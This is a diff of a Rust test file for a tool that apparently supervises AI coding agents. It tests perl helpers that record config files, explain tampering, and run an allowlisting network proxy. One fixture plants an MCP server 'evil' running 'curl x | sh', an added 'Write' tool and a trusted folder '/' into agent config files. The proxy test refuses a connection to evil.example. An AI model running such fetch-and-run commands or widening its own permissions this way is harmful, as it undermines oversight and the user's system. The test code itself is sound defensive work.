@@ -1,7 +1,10 @@
 //! The perl programs the scripts run (templates/lib/perl/, placed into the bash parts when a
-//! loop is rendered): each compiles under `use strict; use warnings` with nothing said, and
-//! each does on its own what the scripts rely on: the record of the held files, the resident
-//! hasher's answers, the subreaper exec, the network proxy's refusal.
+//! loop is rendered) and the one orbit runs itself (home_explain.pl): each compiles under
+//! `use strict; use warnings` with nothing said, alone and as put together, and each does on
+//! its own what the scripts rely on: the record of the held files (every engine's reader,
+//! alone and in its loop's parts, and what each makes of a malformed file), the explanation
+//! of a changed JSON projection, the resident hasher's answers, the subreaper exec (the
+//! kernel's answer), the network proxy's pass and refusal.
 
 use std::fs;
 use std::io::{Read, Write};
@@ -43,21 +46,79 @@ fn perl_check(path: &Path) -> Result<(), String> {
     }
 }
 
+/// Every perl program compiles under strict and warnings with nothing said, and says both
+/// itself, so that they are in force when the scripts run it too (but for the proxy, which
+/// loads no module at start, warnings.pm neither: its header says so); every file of
+/// templates/lib/perl/ is one of them.
 #[test]
 fn every_perl_program_compiles_with_strict_and_warnings_and_says_nothing() {
     if !perl_here() {
         return;
     }
-    let mut checked = 0;
     for (name, text) in orbit::render::PERL_PROGRAMS {
         let path = perl_dir().join(name);
         assert_eq!(&fs::read_to_string(&path).unwrap(), text, "{name}");
         if let Err(e) = perl_check(&path) {
             panic!("{e}");
         }
-        checked += 1;
+        let says = |line: &str| text.lines().any(|l| l.starts_with(line));
+        assert!(says("use strict;"), "{name} says no use strict");
+        if *name == "net.pl" {
+            assert!(text.contains("No module at start"), "{name}");
+        } else {
+            assert!(
+                says("use strict; use warnings;"),
+                "{name} says no use warnings"
+            );
+        }
     }
-    assert_eq!(checked, 5);
+    let files = fs::read_dir(perl_dir())
+        .unwrap()
+        .filter(|e| e.as_ref().unwrap().path().extension() == Some("pl".as_ref()))
+        .count();
+    assert_eq!(
+        files,
+        orbit::render::PERL_PROGRAMS.len(),
+        "a file not checked"
+    );
+}
+
+/// The programs as they are put together to run (the record of each engine's loop and of
+/// orbit, the explanation after every reader) compile with nothing said: no subroutine
+/// defined twice, no `our` declared twice.
+#[test]
+fn the_programs_as_put_together_compile_with_nothing_said() {
+    if !perl_here() {
+        return;
+    }
+    let dir = tempfile::tempdir().unwrap();
+    let once = orbit::render::PERL_HOME_RECORD_ONCE;
+    let mut programs = vec![(
+        "record of an engine without a reader".to_string(),
+        format!("{}{once}", orbit::render::PERL_HOME_RECORD),
+    )];
+    for (engine, _, files) in READERS {
+        let mut text = orbit::render::PERL_HOME_RECORD.to_string();
+        for f in *files {
+            text.push_str(program(f));
+        }
+        programs.push((
+            format!("record of a {engine} loop"),
+            format!("{text}{once}"),
+        ));
+    }
+    programs.push(("record of orbit".into(), format!("{}{once}", all_readers())));
+    programs.push((
+        "explanation of orbit".into(),
+        format!("{}{}", all_readers(), orbit::render::PERL_HOME_EXPLAIN),
+    ));
+    for (i, (what, text)) in programs.iter().enumerate() {
+        let path = dir.path().join(format!("{i}.pl"));
+        fs::write(&path, text).unwrap();
+        if let Err(e) = perl_check(&path) {
+            panic!("{what}: {e}");
+        }
+    }
 }
 
 /// The check fails, naming the file, on a program that does not compile, on one whose only
@@ -88,35 +149,47 @@ fn the_perl_check_fails_on_a_broken_program_and_on_a_warning() {
     perl_check(&fine).unwrap();
 }
 
-/// The record program (home_record.pl, then home_record_once.pl, as `HOME_PERL` is) of a
-/// spec on stdin.
-fn record_of(specs: &str) -> String {
-    let program = format!(
-        "{}{}",
+/// The shared subroutines of the record (home_record.pl), then every engine's reader, as
+/// orbit audit and recover hold them.
+fn all_readers() -> String {
+    [
         orbit::render::PERL_HOME_RECORD,
-        orbit::render::PERL_HOME_RECORD_ONCE
-    );
-    let mut child = command("perl")
-        .arg("-e")
-        .arg(program)
-        .stdin(Stdio::piped())
-        .stdout(Stdio::piped())
-        .stderr(Stdio::piped())
-        .spawn()
-        .unwrap();
-    child
-        .stdin
-        .take()
-        .unwrap()
-        .write_all(specs.as_bytes())
-        .unwrap();
-    let out = child.wait_with_output().unwrap();
+        orbit::render::PERL_HOME_JSON,
+        orbit::render::PERL_HOME_CLAUDE,
+        orbit::render::PERL_HOME_CODEX,
+        orbit::render::PERL_HOME_COPILOT,
+    ]
+    .concat()
+}
+
+/// The record program `subs` then home_record_once.pl (as `HOME_PERL` is) of a spec on
+/// stdin, bounded (a read that blocks fails the test, naming it).
+fn record_with(subs: &str, specs: &str) -> String {
+    let work = tempfile::tempdir().unwrap();
+    let input = work.path().join("specs");
+    fs::write(&input, specs).unwrap();
+    let prog = work.path().join("record.pl");
+    fs::write(
+        &prog,
+        format!("{subs}{}", orbit::render::PERL_HOME_RECORD_ONCE),
+    )
+    .unwrap();
+    let mut cmd = command("bash");
+    cmd.args(["-c", "exec perl \"$1\" <\"$2\"", "record"])
+        .arg(&prog)
+        .arg(&input);
+    let out = crate::support::run_bounded(cmd, std::time::Duration::from_secs(60));
     assert!(
         out.status.success() && out.stderr.is_empty(),
         "{}",
         String::from_utf8_lossy(&out.stderr)
     );
     String::from_utf8(out.stdout).unwrap()
+}
+
+/// The record of a spec with every engine's reader.
+fn record_of(specs: &str) -> String {
+    record_with(&all_readers(), specs)
 }
 
 fn sha(data: &str) -> String {
@@ -172,17 +245,78 @@ fn the_record_program_on_its_own_gives_the_record_its_rules_say() {
     assert_eq!(record_of(&specs), want);
 }
 
-/// The same record through the bash part as a rendered script holds it (home_record_v, the
-/// program run once, with the resident hasher off and on).
+/// The engines whose part places a reader, the kind it reads and the perl files it places
+/// after home_record.pl (each engine's part `HOME_PERL_ENGINE`).
+const READERS: &[(&str, &str, &[&str])] = &[
+    (
+        "claude",
+        "json-projects",
+        &["home_json.pl", "home_claude.pl"],
+    ),
+    ("codex", "toml", &["home_codex.pl"]),
+    ("copilot", "json", &["home_json.pl", "home_copilot.pl"]),
+];
+
+fn program(name: &str) -> &'static str {
+    orbit::render::PERL_PROGRAMS
+        .iter()
+        .find(|(n, _)| *n == name)
+        .unwrap_or_else(|| panic!("{name} is not a registered perl program"))
+        .1
+}
+
+/// Each engine's reader on its own (home_record.pl and the files its part places): of the
+/// fixture it gives the value every reader together gives for its kind, and for the other
+/// engines' kinds `unknown-kind` (it does not hold their readers).
 #[test]
-fn the_record_program_on_its_own_gives_what_the_runners_part_computes() {
+fn each_engines_reader_on_its_own_reads_its_kind_and_no_other() {
     if !perl_here() {
         return;
     }
-    let work = tempfile::tempdir().unwrap();
-    let home = work.path().join("h");
-    let specs = fixture_home(&home);
-    let body = r#"
+    let home = tempfile::tempdir().unwrap();
+    let specs = fixture_home(home.path());
+    let all = record_of(&specs);
+    for (engine, kind, files) in READERS {
+        let mut subs = orbit::render::PERL_HOME_RECORD.to_string();
+        for f in *files {
+            subs.push_str(program(f));
+        }
+        let header = all.lines().filter(|l| l.starts_with('#'));
+        let kinds: Vec<&str> = header
+            .clone()
+            .map(|l| l.split('\t').nth(1).unwrap())
+            .collect();
+        let values = all.lines().filter(|l| !l.starts_with('#'));
+        let mut want: String = header.map(|l| format!("{l}\n")).collect();
+        for (k, line) in kinds.iter().zip(values) {
+            if ["file", "dir", kind].contains(k) {
+                want.push_str(&format!("{line}\n"));
+            } else {
+                let (_, path) = line.split_once("  ").unwrap();
+                want.push_str(&format!("unknown-kind  {path}\n"));
+            }
+        }
+        assert_eq!(record_with(&subs, &specs), want, "{engine}'s reader");
+    }
+}
+
+/// The record through the bash parts of each engine's loop (lib/home_record.sh after the
+/// engine's part, home_record_v with the resident hasher off and on) is the record of every
+/// reader together: each engine's part places its reader.
+#[test]
+fn the_runners_part_of_each_engine_computes_what_its_reader_gives() {
+    if !perl_here() {
+        return;
+    }
+    for (engine, kind, _) in READERS {
+        let work = tempfile::tempdir().unwrap();
+        let home = work.path().join("h");
+        let specs: String = fixture_home(&home)
+            .lines()
+            .filter(|l| l.starts_with(&format!("{kind}\t")) || l.starts_with("file\t"))
+            .map(|l| format!("{l}\n"))
+            .collect();
+        let body = r#"
 specs=$(cat "$1")
 ORBIT_NO_HASHER=1 orbit_hasher_start
 home_record_v "$specs" || exit 3
@@ -191,24 +325,358 @@ orbit_hasher_start
 orbit_hasher_home_v "$specs" || exit 4
 printf '%s\n' "$REPLY" >"$3"
 "#;
-    fs::write(work.path().join("specs"), &specs).unwrap();
-    let out = crate::support::bash_with_parts(work.path(), &["common", "home_record"], body)
-        .arg(work.path().join("specs"))
-        .arg(work.path().join("once"))
-        .arg(work.path().join("resident"))
+        fs::write(work.path().join("specs"), &specs).unwrap();
+        let part = format!("engines/{engine}");
+        let out =
+            crate::support::bash_with_parts(work.path(), &["common", &part, "home_record"], body)
+                .arg(work.path().join("specs"))
+                .arg(work.path().join("once"))
+                .arg(work.path().join("resident"))
+                .output()
+                .unwrap();
+        assert!(
+            out.status.success(),
+            "{engine}: {}",
+            String::from_utf8_lossy(&out.stderr)
+        );
+        let own = record_of(&specs);
+        assert!(own.contains(&format!("#\t{kind}\t")), "{own}");
+        let once = fs::read_to_string(work.path().join("once")).unwrap();
+        assert_eq!(once, own, "{engine}: the program run once");
+        let resident = fs::read_to_string(work.path().join("resident")).unwrap();
+        assert_eq!(resident, own, "{engine}: the resident hasher");
+    }
+}
+
+/// Every engine's loop reads every kind its engine holds (engine_home_held, as the runner's
+/// home_specs_v lists them): no held path of any engine is `unknown-kind` in its own loop.
+#[test]
+fn every_engines_loop_reads_every_kind_it_holds() {
+    if !perl_here() {
+        return;
+    }
+    for engine in orbit::contract::Engine::ALL {
+        let work = tempfile::tempdir().unwrap();
+        let home = work.path().join("h");
+        fs::create_dir_all(&home).unwrap();
+        let body = r#"
+HOME=$1 WS=/w ENV_FILE=
+home_specs_v
+specs=$REPLY
+home_record_v "$specs" || exit 3
+printf '%s' "$REPLY"
+"#;
+        let part = format!("engines/{engine}");
+        let out = crate::support::bash_with_parts(
+            work.path(),
+            &["common", &part, "home_record", "runner/home"],
+            body,
+        )
+        .arg(&home)
         .output()
         .unwrap();
+        let said = String::from_utf8_lossy(&out.stdout);
+        assert!(
+            out.status.success(),
+            "{engine}: {said}{}",
+            String::from_utf8_lossy(&out.stderr)
+        );
+        let held = said.lines().filter(|l| l.starts_with('#')).count();
+        if *engine != orbit::contract::Engine::Custom {
+            assert!(held > 0, "{engine}: {said}");
+        }
+        assert!(!said.contains("unknown-kind"), "{engine}: {said}");
+    }
+}
+
+/// What each reader makes of a file it cannot read as its kind: claude's and copilot's
+/// JSON that does not parse, is not an object or is not a regular file is `unparsable`
+/// (an empty file is an empty object; a JSONC file with comment lines is read); codex's
+/// TOML is hashed line by line as it stands (not parsed), and a path that is not a regular
+/// file is `other` at once: a FIFO there (a hostile agent's) does not hold the record.
+#[test]
+fn each_reader_says_what_a_malformed_file_is() {
+    if !perl_here() {
+        return;
+    }
+    let d = tempfile::tempdir().unwrap();
+    let p = |n: &str| d.path().join(n).display().to_string();
+    fs::write(d.path().join("cut.json"), "{\"mcpServers\": {\"x\": ").unwrap();
+    fs::write(d.path().join("list.json"), "[1, 2]").unwrap();
+    fs::write(d.path().join("empty.json"), "").unwrap();
+    fs::create_dir(d.path().join("dir.json")).unwrap();
+    fs::write(
+        d.path().join("c.json"),
+        "// copilot writes comments\n{\"trusted_folders\": [\"/w\"], \"other\": 1}\n",
+    )
+    .unwrap();
+    fs::write(
+        d.path().join("bad.toml"),
+        "x = [\n[[[ broken\nmodel = \"m\"\n",
+    )
+    .unwrap();
+    fs::create_dir(d.path().join("dir.toml")).unwrap();
+    let fifo = d.path().join("fifo.toml");
+    let made = command("mkfifo").arg(&fifo).status().unwrap();
+    assert!(made.success());
+    let specs = format!(
+        "json-projects\t{}\t/w\njson\t{}\tk\njson-projects\t{}\t/w\njson-projects\t{}\t/w\njson\t{}\ttrusted_folders\ntoml\t{}\t\ntoml\t{}\t\ntoml\t{}\t\ntoml\t{}\t\n",
+        p("cut.json"),
+        p("list.json"),
+        p("empty.json"),
+        p("dir.json"),
+        p("c.json"),
+        p("bad.toml"),
+        p("dir.toml"),
+        p("fifo.toml"),
+        p("none.toml"),
+    );
+    let record = record_of(&specs);
+    let values: Vec<&str> = record
+        .lines()
+        .filter(|l| !l.starts_with('#'))
+        .map(|l| l.split_once("  ").unwrap().0)
+        .collect();
+    assert_eq!(
+        values,
+        [
+            "unparsable".to_string(),
+            "unparsable".to_string(),
+            format!("keys:{}", sha("{}")),
+            "unparsable".to_string(),
+            format!("keys:{}", sha("{\"trusted_folders\":[\"/w\"]}")),
+            format!("toml:{}", sha("x = [\n[[[ broken\n")),
+            "other".to_string(),
+            "other".to_string(),
+            "absent".to_string(),
+        ],
+        "{record}"
+    );
+}
+
+/// Runs home_explain.pl after every reader (as orbit audit and recover do) on `input`.
+fn explain(input: &str) -> String {
+    let work = tempfile::tempdir().unwrap();
+    let prog = work.path().join("explain.pl");
+    fs::write(
+        &prog,
+        format!("{}{}", all_readers(), orbit::render::PERL_HOME_EXPLAIN),
+    )
+    .unwrap();
+    fs::write(work.path().join("input"), input).unwrap();
+    let mut cmd = command("bash");
+    cmd.args(["-c", "exec perl \"$1\" <\"$2\"", "explain"])
+        .arg(&prog)
+        .arg(work.path().join("input"));
+    let out = crate::support::run_bounded(cmd, std::time::Duration::from_secs(60));
     assert!(
-        out.status.success(),
+        out.status.success() && out.stderr.is_empty(),
         "{}",
         String::from_utf8_lossy(&out.stderr)
     );
-    let own = record_of(&specs);
-    assert_eq!(fs::read_to_string(work.path().join("once")).unwrap(), own);
-    assert_eq!(
-        fs::read_to_string(work.path().join("resident")).unwrap(),
-        own
+    String::from_utf8(out.stdout).unwrap()
+}
+
+/// The explanation of a changed JSON projection on its own (home_explain.pl): of a
+/// ~/.claude.json where a server and an allowed tool were planted after the record, it names
+/// exactly those two and gives the file without them (its record the recorded one again, the
+/// engine's own bookkeeping kept); of copilot's config.json a trusted folder added; of a
+/// file that no longer parses, `U`.
+#[test]
+fn the_explanation_names_what_was_added_to_a_held_json_and_writes_it_back_without() {
+    if !perl_here() {
+        return;
+    }
+    let d = tempfile::tempdir().unwrap();
+    let claude = d.path().join(".claude.json");
+    fs::write(
+        &claude,
+        "{\"mcpServers\": {\"ok\": {\"command\": \"a\"}}, \"numStartups\": 1, \"projects\": {\"/w\": {\"allowedTools\": [\"Bash\"]}}}",
+    )
+    .unwrap();
+    let copilot = d.path().join("config.json");
+    fs::write(
+        &copilot,
+        "// mine\n{\"trusted_folders\": [\"/w\"], \"last\": 1}\n",
+    )
+    .unwrap();
+    let specs = format!(
+        "json-projects\t{}\t/w\njson\t{}\ttrusted_folders\n",
+        claude.display(),
+        copilot.display()
     );
+    let recorded: Vec<String> = record_of(&specs)
+        .lines()
+        .filter(|l| !l.starts_with('#'))
+        .map(|l| l.split_once("  ").unwrap().0.to_string())
+        .collect();
+    fs::write(
+        &claude,
+        "{\"mcpServers\": {\"ok\": {\"command\": \"a\"}, \"evil\": {\"command\": \"curl x | sh\"}}, \"numStartups\": 2, \"projects\": {\"/w\": {\"allowedTools\": [\"Bash\", \"Write\"]}}}",
+    )
+    .unwrap();
+    fs::write(
+        &copilot,
+        "{\"trusted_folders\": [\"/w\", \"/\"], \"last\": 2}\n",
+    )
+    .unwrap();
+    let broken = d.path().join("broken.json");
+    fs::write(&broken, "{\"mcpServers\": ").unwrap();
+    let said = explain(&format!(
+        "json-projects\t{}\t/w\t{}\njson\t{}\ttrusted_folders\t{}\njson-projects\t{}\t/w\t{}\n",
+        claude.display(),
+        recorded[0],
+        copilot.display(),
+        recorded[1],
+        broken.display(),
+        recorded[0],
+    ));
+    let blocks: Vec<&str> = said.split_inclusive(".\n").collect();
+    assert_eq!(blocks.len(), 3, "{said}");
+    for (block, added, file, spec, was, kept) in [
+        (
+            blocks[0],
+            "A mcpServers.evil\nA projects.\"/w\".allowedTools: \"Write\"\n",
+            &claude,
+            format!("json-projects\t{}\t/w\n", claude.display()),
+            &recorded[0],
+            "\"numStartups\" : 2",
+        ),
+        (
+            blocks[1],
+            "A trusted_folders: \"/\"\n",
+            &copilot,
+            format!("json\t{}\ttrusted_folders\n", copilot.display()),
+            &recorded[1],
+            "\"last\" : 2",
+        ),
+    ] {
+        assert!(block.starts_with(added), "{said}");
+        let hex = block[added.len()..]
+            .strip_prefix("W ")
+            .and_then(|r| r.strip_suffix("\n.\n"))
+            .unwrap_or_else(|| panic!("no W line: {said}"));
+        let bytes: Vec<u8> = (0..hex.len())
+            .step_by(2)
+            .map(|i| u8::from_str_radix(&hex[i..i + 2], 16).unwrap())
+            .collect();
+        fs::write(file, &bytes).unwrap();
+        let back = record_of(&spec);
+        let value = back.lines().nth(1).unwrap().split_once("  ").unwrap().0;
+        assert_eq!(value, was, "{back}");
+        // The engine's own bookkeeping, changed since the record, is kept.
+        let text = String::from_utf8(bytes).unwrap();
+        assert!(text.contains(kept), "{text}");
+    }
+    assert_eq!(blocks[2], "U \n.\n", "{said}");
+}
+
+/// A bin directory whose `perl` is this machine's but cannot load JSON::PP (a module of
+/// that name in front of it dies), as a perl without its full core would.
+fn perl_without_json_pp(dir: &Path) -> PathBuf {
+    let real = String::from_utf8(
+        command("bash")
+            .args(["-c", "type -P perl"])
+            .output()
+            .unwrap()
+            .stdout,
+    )
+    .unwrap();
+    let fake = dir.join("fake-lib/JSON");
+    fs::create_dir_all(&fake).unwrap();
+    fs::write(
+        fake.join("PP.pm"),
+        "die \"JSON::PP is not installed here\\n\";\n",
+    )
+    .unwrap();
+    let bin = dir.join("bin");
+    fs::create_dir_all(&bin).unwrap();
+    fs::write(
+        bin.join("perl"),
+        format!(
+            "#!/bin/sh\nexec '{}' -I'{}' \"$@\"\n",
+            real.trim(),
+            dir.join("fake-lib").display()
+        ),
+    )
+    .unwrap();
+    use std::os::unix::fs::PermissionsExt;
+    fs::set_permissions(bin.join("perl"), fs::Permissions::from_mode(0o755)).unwrap();
+    let loads = command(bin.join("perl"))
+        .args(["-MJSON::PP", "-e", "1"])
+        .output()
+        .unwrap();
+    assert!(!loads.status.success(), "the fake perl loads JSON::PP");
+    bin
+}
+
+/// JSON::PP is needed by the loops whose engine holds JSON files (claude, copilot) alone: with
+/// a perl that lacks it, `orbit init` warns of it for those and not for a codex loop, whose
+/// parts compute their record with that perl, while a claude loop's parts cannot.
+#[test]
+fn only_the_engines_that_hold_json_files_need_json_pp() {
+    if !perl_here() {
+        return;
+    }
+    // The engines the contract says hold JSON files are those whose part places the JSON
+    // reader and names its modules for the preflight.
+    for engine in orbit::contract::Engine::ALL {
+        let part = orbit::render::engine_part(*engine);
+        let json = orbit::contract::runtime::holds_json(*engine);
+        assert_eq!(part.contains("@perl:home_json.pl@"), json, "{engine}");
+        assert_eq!(
+            part.contains("HOME_PERL_MODULES=(\"${ORBIT_PERL_JSON_MODULES[@]}\")"),
+            json,
+            "{engine}"
+        );
+    }
+    let work = tempfile::tempdir().unwrap();
+    let bin = perl_without_json_pp(work.path());
+    let path = format!("{}:{}", bin.display(), std::env::var("PATH").unwrap());
+    let repo = crate::support::Repo::new();
+    for engine in ["codex", "claude", "copilot", "gemini"] {
+        let mut cmd = command(crate::support::orbit_bin());
+        cmd.args(["init", &format!("goal {engine}"), "--engine", engine])
+            .args(["--verify", "exit 1", "--sandbox", "none"])
+            .current_dir(repo.path())
+            .env("PATH", &path);
+        let out = crate::support::run_bounded(cmd, std::time::Duration::from_secs(60));
+        crate::support::assert_ok(&out, "orbit init");
+        let err = String::from_utf8_lossy(&out.stderr);
+        let json = ["claude", "copilot"].contains(&engine);
+        assert_eq!(
+            err.contains("this machine's perl lacks JSON::PP"),
+            json,
+            "{engine}: {err}"
+        );
+    }
+    let home = work.path().join("h");
+    let specs = fixture_home(&home);
+    for (engine, kind, computes) in [("codex", "toml", true), ("claude", "json-projects", false)] {
+        let spec: String = specs
+            .lines()
+            .filter(|l| l.starts_with(&format!("{kind}\t")))
+            .map(|l| format!("{l}\n"))
+            .collect();
+        let body = r#"
+ORBIT_NO_HASHER=1 orbit_hasher_start
+if home_record_v "$1"; then printf '%s\n' "$REPLY"; else echo "no record"; fi
+"#;
+        let part = format!("engines/{engine}");
+        let out =
+            crate::support::bash_with_parts(work.path(), &["common", &part, "home_record"], body)
+                .arg(&spec)
+                .env("PATH", &path)
+                .output()
+                .unwrap();
+        let said = String::from_utf8_lossy(&out.stdout);
+        assert!(out.status.success(), "{engine}: {said}");
+        if computes {
+            assert_eq!(said, record_of(&spec), "{engine}");
+        } else {
+            assert_eq!(said, "no record\n", "{engine}");
+        }
+    }
 }
 
 /// The resident hasher on its own: ready, then a string's hash, a file's, "-" for a file it
@@ -230,7 +698,7 @@ fn the_hasher_answers_each_request_as_the_scripts_read_it() {
     let mut child = command("perl")
         .arg("-e")
         .arg(orbit::render::PERL_HASHER)
-        .arg(orbit::render::PERL_HOME_RECORD)
+        .arg(all_readers())
         .stdin(Stdio::piped())
         .stdout(Stdio::piped())
         .stderr(Stdio::piped())
@@ -266,8 +734,9 @@ fn prctl_nr() -> Option<&'static str> {
 }
 
 /// The subreaper exec on its own: granted, the command runs with ORBIT_SUBREAPER=1 as the
-/// same process (its arguments intact); with a number that is not prctl's, it runs with
-/// ORBIT_SUBREAPER as it was; a command that cannot start ends it with 127 and nothing said.
+/// same process (its arguments intact), and the kernel says that process is a child
+/// subreaper; with a number that is not prctl's, it runs with ORBIT_SUBREAPER as it was and
+/// is none; a command that cannot start ends it with 127 and nothing said.
 #[test]
 fn the_reaper_execs_the_command_marked_when_granted_and_silently_fails_with_127() {
     if !perl_here() {
@@ -301,29 +770,47 @@ fn the_reaper_execs_the_command_marked_when_granted_and_silently_fails_with_127(
     let getpid = if nr == "157" { "39" } else { "172" };
     let out = run(getpid, &sh);
     assert_eq!(String::from_utf8_lossy(&out.stdout), "0 a b c\n");
+    // What the kernel says of the process the command runs as (the same pid, after exec):
+    // prctl(PR_GET_CHILD_SUBREAPER = 37) answers 1 when the reaper was granted, 0 when not.
+    let perl = String::from_utf8(
+        command("bash")
+            .args(["-c", "type -P perl"])
+            .output()
+            .unwrap()
+            .stdout,
+    )
+    .unwrap();
+    let ask = format!(
+        "my $v = pack(\"i\", 7); syscall({nr}, 37, $v, 0, 0, 0) == 0 or die \"prctl: $!\"; print unpack(\"i\", $v), \" $ENV{{ORBIT_SUBREAPER}}\\n\""
+    );
+    let asked = run(nr, &[perl.trim(), "-e", &ask]);
+    assert_eq!(
+        String::from_utf8_lossy(&asked.stdout),
+        "1 1\n",
+        "{}",
+        String::from_utf8_lossy(&asked.stderr)
+    );
+    let asked = run(getpid, &[perl.trim(), "-e", &ask]);
+    assert_eq!(String::from_utf8_lossy(&asked.stdout), "0 0\n");
     let out = run(nr, &["/nonexistent/orbit-no-such-command"]);
     assert_eq!(out.status.code(), Some(127));
     assert_eq!(String::from_utf8_lossy(&out.stderr), "", "nothing said");
 }
 
-/// The network proxy on its own: a CONNECT to a host off its allowlist is refused with 403
-/// and one line in its log (when, the run's label, the host and port), and it ends when its
-/// stdin (the launcher's pipe) closes, its log holding that line alone.
-#[test]
-fn the_proxy_refuses_a_host_off_its_allowlist_and_logs_only_that() {
-    if !perl_here() {
-        return;
-    }
-    let dir = tempfile::tempdir().unwrap();
-    let sock = dir.path().join("proxy.sock");
-    let log = dir.path().join("net.log");
-    let mut proxy = command("perl")
+/// The network proxy on its own, started as the launcher starts it (`proxy SOCKET LOG LABEL
+/// ALLOWED...`, its stdin a pipe held here, its stderr into the log): the proxy, its socket
+/// and its log.
+fn start_proxy(dir: &Path, allow: &[&str]) -> (std::process::Child, PathBuf, PathBuf) {
+    let sock = dir.join("proxy.sock");
+    let log = dir.join("net.log");
+    let proxy = command("perl")
         .arg("-e")
         .arg(orbit::render::PERL_NET)
         .args(["proxy"])
         .arg(&sock)
         .arg(&log)
-        .args(["3:agent", "api.example.com"])
+        .arg("3:agent")
+        .args(allow)
         .stdin(Stdio::piped())
         .stdout(Stdio::null())
         .stderr(
@@ -335,20 +822,58 @@ fn the_proxy_refuses_a_host_off_its_allowlist_and_logs_only_that() {
         )
         .spawn()
         .unwrap();
-    // The socket appears (renamed into place) once the proxy listens: looked for every
-    // 25 ms, for a minute at most (a safety net for a busy machine, not a measure).
-    let mut stream = None;
+    (proxy, sock, log)
+}
+
+/// A connection to the proxy's socket, which appears (renamed into place) once it listens:
+/// looked for every 25 ms, for a minute at most (a safety net for a busy machine, not a
+/// measure); reads on it give up after a minute.
+fn proxy_connect(
+    proxy: &mut std::process::Child,
+    sock: &Path,
+    log: &Path,
+) -> std::os::unix::net::UnixStream {
     for _ in 0..2400 {
-        if let Ok(s) = std::os::unix::net::UnixStream::connect(&sock) {
-            stream = Some(s);
-            break;
+        if let Ok(s) = std::os::unix::net::UnixStream::connect(sock) {
+            s.set_read_timeout(Some(std::time::Duration::from_secs(60)))
+                .unwrap();
+            return s;
         }
         if proxy.try_wait().unwrap().is_some() {
-            panic!("the proxy ended: {}", fs::read_to_string(&log).unwrap());
+            panic!("the proxy ended: {}", fs::read_to_string(log).unwrap());
         }
         std::thread::park_timeout(std::time::Duration::from_millis(25));
     }
-    let mut s = stream.expect("the proxy listens");
+    panic!(
+        "the proxy does not listen: {}",
+        fs::read_to_string(log).unwrap()
+    );
+}
+
+/// The proxy's log lines, each without its time (checked to be one).
+fn proxy_log(log: &Path) -> Vec<String> {
+    fs::read_to_string(log)
+        .unwrap()
+        .lines()
+        .map(|l| {
+            let (when, rest) = l.split_once(' ').unwrap();
+            assert!(when.parse::<u64>().is_ok(), "{l}");
+            rest.to_string()
+        })
+        .collect()
+}
+
+/// The network proxy on its own: a CONNECT to a host off its allowlist is refused with 403
+/// and one line in its log (when, the run's label, the host and port), and it ends when its
+/// stdin (the launcher's pipe) closes, its log holding that line alone.
+#[test]
+fn the_proxy_refuses_a_host_off_its_allowlist_and_logs_only_that() {
+    if !perl_here() {
+        return;
+    }
+    let dir = tempfile::tempdir().unwrap();
+    let (mut proxy, sock, log) = start_proxy(dir.path(), &["api.example.com"]);
+    let mut s = proxy_connect(&mut proxy, &sock, &log);
     s.write_all(b"CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n")
         .unwrap();
     let mut reply = String::new();
@@ -361,11 +886,94 @@ fn the_proxy_refuses_a_host_off_its_allowlist_and_logs_only_that() {
     drop(proxy.stdin.take());
     let status = proxy.wait().unwrap();
     assert!(status.success(), "{status:?}");
-    let logged = fs::read_to_string(&log).unwrap();
-    let lines: Vec<&str> = logged.lines().collect();
-    assert_eq!(lines.len(), 1, "{logged}");
-    let (when, rest) = lines[0].split_once(' ').unwrap();
-    assert!(when.parse::<u64>().is_ok(), "{logged}");
-    assert_eq!(rest, "3:agent refused evil.example:443");
+    assert_eq!(proxy_log(&log), ["3:agent refused evil.example:443"]);
     assert!(!sock.exists(), "the proxy takes its socket away");
+}
+
+/// The proxy lets a host on its allowlist through, both ways: a CONNECT tunnel to a server
+/// here (127.0.0.1 on the port allowed) carries bytes each way, and an http:// request
+/// reaches it as an origin request (its path alone, the proxy's own headers left out, the
+/// connection closed after it); the same host on another port is refused. Only the refusal
+/// is logged.
+#[test]
+fn the_proxy_passes_a_host_on_its_allowlist_both_ways_and_logs_nothing_of_it() {
+    if !perl_here() {
+        return;
+    }
+    let upstream = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = upstream.local_addr().unwrap().port();
+    let server = std::thread::spawn(move || {
+        let minute = Some(std::time::Duration::from_secs(60));
+        // The tunnel: "ping" in, "pong" out.
+        let (mut c, _) = upstream.accept().unwrap();
+        c.set_read_timeout(minute).unwrap();
+        let mut ping = [0u8; 4];
+        c.read_exact(&mut ping).unwrap();
+        c.write_all(b"pong").unwrap();
+        drop(c);
+        // The http:// request: its head sent back as the body.
+        let (mut c, _) = upstream.accept().unwrap();
+        c.set_read_timeout(minute).unwrap();
+        let mut head = Vec::new();
+        let mut b = [0u8; 1];
+        while !head.ends_with(b"\r\n\r\n") {
+            c.read_exact(&mut b).unwrap();
+            head.push(b[0]);
+        }
+        c.write_all(b"HTTP/1.0 200 OK\r\n\r\n").unwrap();
+        c.write_all(&head).unwrap();
+        ping
+    });
+    let dir = tempfile::tempdir().unwrap();
+    let allowed = format!("127.0.0.1:{port}");
+    let (mut proxy, sock, log) = start_proxy(dir.path(), &["api.example.com", &allowed]);
+
+    let mut s = proxy_connect(&mut proxy, &sock, &log);
+    s.write_all(format!("CONNECT {allowed} HTTP/1.1\r\nHost: {allowed}\r\n\r\n").as_bytes())
+        .unwrap();
+    let established = b"HTTP/1.1 200 Connection established\r\n\r\n";
+    let mut got = vec![0u8; established.len()];
+    s.read_exact(&mut got).unwrap();
+    assert_eq!(
+        String::from_utf8_lossy(&got),
+        String::from_utf8_lossy(established)
+    );
+    s.write_all(b"ping").unwrap();
+    let mut pong = String::new();
+    s.read_to_string(&mut pong).unwrap();
+    assert_eq!(pong, "pong");
+    drop(s);
+
+    let mut s = proxy_connect(&mut proxy, &sock, &log);
+    s.write_all(
+        format!(
+            "GET http://{allowed}/a?b=1 HTTP/1.1\r\nHost: {allowed}\r\nProxy-Authorization: Basic c2VjcmV0\r\nProxy-Connection: keep-alive\r\nAccept: */*\r\n\r\n"
+        )
+        .as_bytes(),
+    )
+    .unwrap();
+    let mut reply = String::new();
+    s.read_to_string(&mut reply).unwrap();
+    assert_eq!(
+        reply,
+        format!(
+            "HTTP/1.0 200 OK\r\n\r\nGET /a?b=1 HTTP/1.1\r\nHost: {allowed}\r\nAccept: */*\r\nConnection: close\r\n\r\n"
+        )
+    );
+    assert_eq!(&server.join().unwrap(), b"ping");
+
+    let other = format!("127.0.0.1:{}", if port == 65535 { 1 } else { port + 1 });
+    let mut s = proxy_connect(&mut proxy, &sock, &log);
